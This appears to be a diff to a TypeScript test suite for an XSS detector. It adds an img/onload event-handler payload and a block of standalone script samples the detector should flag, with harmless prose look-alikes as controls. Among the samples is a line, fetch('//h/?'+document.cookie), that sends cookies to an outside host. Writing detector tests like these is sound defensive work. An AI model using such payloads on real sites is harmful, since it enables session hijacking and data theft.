@@ -25,6 +25,7 @@ const PROOFS: Readonly<Record<string, readonly (readonly [string, string])[]>> =
   'handlers in tags of any name': [
     ['<unknown onanything=f()>', 'xss-event-handler'],
     ['<svg/onload=f()>', 'xss-event-handler'],
+    ['<img/src=x/onload=f()>', 'xss-event-handler'],
     ['<img src=x onerror=f()//', 'xss-event-handler'],
     ['<img src="x"onerror=f()>', 'xss-event-handler'],
     ['<img alt=">" onerror=f()>', 'xss-event-handler'],
@@ -281,4 +282,22 @@ describe('detectXss', () => {
   ]) {
     it(`leaves ${JSON.stringify(text)}`, () => assert.equal(detectXss(text), null));
   }
+});
+
+describe('script that stands alone', () => {
+  const shown = [
+    '[1].find(alert)',
+    '(()=>alert(1))()',
+    "fetch('//h/?'+document.cookie)",
+    'a="x";b="y";c="z";eval(a+b+c)',
+  ];
+  for (const text of shown) it(`is nearly sure: ${text}`, () => assert.ok(grade(text)[0] >= 4));
+
+  const prose = [
+    'we call alert(1) here',
+    'the function eval(a) is bad',
+    'document.cookie, what is that?',
+    'eval(a+b)',
+  ];
+  for (const text of prose) it(`is not, between words: ${text}`, () => assert.ok(grade(text)[0] < 5));
 });
